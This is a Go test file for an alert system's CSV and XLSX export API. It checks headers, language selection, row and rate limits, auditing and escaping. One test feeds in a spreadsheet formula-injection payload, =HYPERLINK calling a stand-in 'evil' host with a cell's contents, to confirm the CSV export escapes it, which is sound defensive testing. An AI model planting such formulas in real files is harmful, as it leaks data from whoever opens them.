package api

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"sharpeyes/alerts"
	"sharpeyes/alerts/desk"

	"github.com/xuri/excelize/v2"
)

// csvRows reads an exported list.
func csvRows(t testing.TB, a answer) [][]string {
	t.Helper()
	raw, ok := strings.CutPrefix(a.rec.Body.String(), "\ufeff")
	if !ok || !strings.HasPrefix(a.rec.Header().Get("Content-Type"), "text/csv") {
		t.Fatalf("%s: %.80q", a.rec.Header().Get("Content-Type"), a.rec.Body)
	}
	rows, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func xlsxRows(t testing.TB, a answer) [][]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(a.rec.Body.Bytes()))
	if err != nil {
		t.Fatalf("%v: %.80q", err, a.rec.Body)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func (w *world) reportIn(t testing.TB, area, text string) desk.IncidentView {
	t.Helper()
	lon := map[string]float64{"east": 117.05, "west": 117.35}[area]
	v, _, _, err := w.desk.Report(t.Context(), scope(alerts.GridLeader, area), desk.ReportInput{Category: "hazard.gas", Text: text, Lon: lon, Lat: 31.05})
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func TestExportOfIncidents(t *testing.T) {
	w := newWorld(t)
	first := w.reportIn(t, "east", `=HYPERLINK("http://evil/?"&A1,"燃气味")`)
	w.reportIn(t, "west", "in the west")
	east := w.as(t, alerts.DutyOfficer, "east")
	a := w.call(t, "GET", "/api/v1/incidents/export", east, nil).want(t, 200)
	rows := csvRows(t, a)
	if len(rows) != 2 || rows[0][0] != "编号" || rows[1][0] != first.Number || rows[1][2] != "燃气隐患" || rows[1][3] != "紧急" || rows[1][4] != "否" ||
		rows[1][5] != `'=HYPERLINK("http://evil/?"&A1,"燃气味")` || rows[1][12] != "网格长" {
		t.Errorf("%q", rows)
	}
	if got := rows[1][1]; got != first.ReceivedAt.In(w.desk.Zone).Format("2006-01-02 15:04:05") {
		t.Errorf("received %q", got)
	}
	if d := a.rec.Header().Get("Content-Disposition"); !strings.HasPrefix(d, `attachment; filename="incidents-2`) || !strings.HasSuffix(d, `.csv"`) {
		t.Errorf("Content-Disposition %q", d)
	}
	if a.rec.Header().Get("Content-Length") != fmt.Sprint(a.rec.Body.Len()) {
		t.Errorf("Content-Length %q of %d", a.rec.Header().Get("Content-Length"), a.rec.Body.Len())
	}
	a = w.call(t, "GET", "/api/v1/incidents/export?format=xlsx&lang=en&q=HYPERLINK", w.as(t, alerts.Leader, "city"), nil).want(t, 200)
	rows = xlsxRows(t, a)
	if len(rows) != 2 || rows[0][0] != "Number" || rows[1][2] != "Gas" || rows[1][3] != "high" || !strings.HasPrefix(rows[1][5], "=HYPERLINK") {
		t.Errorf("%q", rows)
	}
	if strings.Contains(strings.Join(rows[1], " "), userID(alerts.GridLeader, "east")) {
		t.Error("the export names the reporter")
	}
}

func TestLanguageOfExports(t *testing.T) {
	w := newWorld(t)
	cookie := w.as(t, alerts.DutyOfficer, "city")
	for accept, head := range map[string]string{"": "编号", "zh-CN,zh;q=0.9,en;q=0.8": "编号", "en-GB": "Number", "en;q=0.5, zh;q=0.9": "编号",
		"fr": "编号", "fr, en;q=0.3": "Number", ";;;": "编号", "*": "编号", "zh-TW": "编号"} {
		a := w.call(t, "GET", "/api/v1/incidents/export", cookie, nil, header("Accept-Language", accept)).want(t, 200)
		if rows := csvRows(t, a); rows[0][0] != head {
			t.Errorf("Accept-Language %q: %q", accept, rows[0][0])
		}
	}
	a := w.call(t, "GET", "/api/v1/incidents/export?lang=zh-CN", cookie, nil, header("Accept-Language", "en")).want(t, 200)
	if rows := csvRows(t, a); rows[0][0] != "编号" {
		t.Errorf("lang=zh-CN: %q", rows[0][0])
	}
	for _, path := range []string{"?format=pdf", "?lang=fr", "?cursor=x", "?limit=5", "?mine=true", "?reporter=me"} {
		w.call(t, "GET", "/api/v1/incidents/export"+path, cookie, nil).problem(t, http.StatusUnprocessableEntity)
	}
	w.call(t, "GET", "/api/v1/incidents/export", cookie, nil, header("Accept-Language", strings.Repeat("e", 300))).problem(t, 422)
}

func TestExportsAreBounded(t *testing.T) {
	w := newWorld(t)
	for range 3 {
		w.reportIn(t, "east", "again")
	}
	cookie := w.as(t, alerts.Auditor, "city")
	w.exports.rows = 3
	if rows := csvRows(t, w.call(t, "GET", "/api/v1/incidents/export", cookie, nil).want(t, 200)); len(rows) != 4 {
		t.Errorf("%d rows", len(rows))
	}
	w.exports.rows = 2
	p := w.call(t, "GET", "/api/v1/incidents/export?format=xlsx", cookie, nil).problem(t, http.StatusRequestEntityTooLarge)
	if !strings.Contains(p.Detail, "more than 2 rows") {
		t.Errorf("%q", p.Detail)
	}
	end1 := must[func()](t)(w.exports.begin())
	end2 := must[func()](t)(w.exports.begin())
	a := w.call(t, "GET", "/api/v1/incidents/export", cookie, nil)
	if a.problem(t, http.StatusTooManyRequests); a.rec.Header().Get("Retry-After") == "" {
		t.Error("no Retry-After")
	}
	end1()
	end2()
	w.call(t, "GET", "/api/v1/alerts/export", cookie, nil).want(t, 200)
}

func TestExportIsAudited(t *testing.T) {
	w := newWorld(t)
	w.call(t, "GET", "/api/v1/incidents/export?area=east", w.as(t, alerts.Leader, "city"), nil).want(t, 200)
	w.call(t, "GET", "/api/v1/incidents/export", w.as(t, alerts.Handler, "city"), nil).problem(t, 403)
	list, _, err := w.store.Audit(t.Context(), alerts.System(), alerts.AuditFilter{Kind: alerts.AuditExport, Page: alerts.Page{Limit: 10}})
	if err != nil {
		t.Fatal(err)
	}
	if len(list) != 1 || list[0].UserID != userID(alerts.Leader, "city") || list[0].Object != "incidents" || list[0].Details["rows"] != "0" ||
		list[0].Details["format"] != "csv" {
		t.Errorf("%+v", list)
	}
}

// An alarm that comes again while the list is read moves to its top: it is read
// at the end instead, and nothing comes twice.
func TestRepeatingRowsAreExportedOnce(t *testing.T) {
	type row struct {
		id string
		at int
	}
	start := time.Unix(1000, 0)
	rows := []row{{"d", 4}, {"c", 3}, {"b", 2}, {"a", 1}}
	calls := 0
	r := repeating[row]{since: start, id: func(v row) string { return v.id }, seen: map[string]bool{},
		list: func(p alerts.Page, since time.Time) ([]row, string, error) {
			calls++
			switch {
			case since.IsZero() && p.Cursor == "":
				return append([]row(nil), rows[:2]...), "2", nil
			case since.IsZero() && p.Cursor == "2": // b has moved
				return []row{{"a", 1}}, "", nil
			case since.Equal(start) && p.Cursor == "":
				return []row{{"b", 6}}, "1", nil
			case since.Equal(start) && p.Cursor == "1":
				return []row{{"d", 5}}, "", nil
			}
			t.Fatalf("asked for %q since %v", p.Cursor, since)
			return nil, "", nil
		}}
	var got []string
	for p := (alerts.Page{}); ; {
		items, next, err := r.page(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, v := range items {
			got = append(got, v.id)
		}
		if p.Cursor = next; next == "" {
			break
		}
	}
	if strings.Join(got, "") != "dcab" || calls != 4 {
		t.Errorf("%v in %d calls", got, calls)
	}
}

func TestExportOfAlerts(t *testing.T) {
	w := newWorld(t)
	src, _, err := w.desk.CreateSource(t.Context(), scope(alerts.Admin, "city"), desk.SourceInput{Name: "+box", AreaID: "east"})
	if err != nil {
		t.Fatal(err)
	}
	for range 2 {
		if _, _, err := w.desk.Raise(t.Context(), alerts.Source{ID: src.ID, Name: src.Name, AreaID: "east", AreaPath: "/city/east/"},
			desk.Alarm{Kind: "fire", CameraID: "cam-e", Text: "@smoke"}); err != nil {
			t.Fatal(err)
		}
	}
	for format, read := range map[string]func(testing.TB, answer) [][]string{"csv": csvRows, "xlsx": xlsxRows} {
		rows := read(t, w.call(t, "GET", "/api/v1/alerts/export?format="+format, w.as(t, alerts.DutyOfficer, "east"), nil).want(t, 200))
		if len(rows) != 2 || rows[0][2] != "次数" || rows[1][2] != "2" || rows[1][4] != "紧急" || rows[1][7] != "cam-e" || !strings.HasSuffix(rows[1][5], "@smoke") {
			t.Errorf("%s: %q", format, rows)
		}
		rows = read(t, w.call(t, "GET", "/api/v1/alerts/export?format="+format, w.as(t, alerts.DutyOfficer, "west"), nil).want(t, 200))
		if len(rows) != 1 {
			t.Errorf("%s: the west sees %q", format, rows)
		}
	}
}

// Every code that a list may hold has its words in both languages.
func TestWordsForEveryCode(t *testing.T) {
	zh, en := words{}, words{english: true}
	both := func(code, a, b string) {
		t.Helper()
		if a == "" || b == "" || a == code || a == b || strings.ContainsFunc(b, func(r rune) bool { return r > 0x7f }) {
			t.Errorf("%s: %q, %q", code, a, b)
		}
	}
	for _, v := range alerts.Severities {
		both(string(v), zh.severity(v), en.severity(v))
	}
	for _, v := range alerts.Steps {
		both(string(v), zh.step(v), en.step(v))
	}
	for _, v := range []alerts.Outcome{alerts.Solved, alerts.NotSolved, alerts.Refused, alerts.Merged} {
		both(string(v), zh.outcome(v), en.outcome(v))
	}
	for _, v := range []alerts.Channel{alerts.ByGridLeader, alerts.ByOfficer, alerts.ByStaff, alerts.WalkIn, alerts.Hotline, alerts.ByResident,
		alerts.ByAlarm, alerts.BySystem} {
		both(string(v), zh.channel(v), en.channel(v))
	}
	both("yes", zh.yes(true), en.yes(true))
	both("no", zh.yes(false), en.yes(false))
}
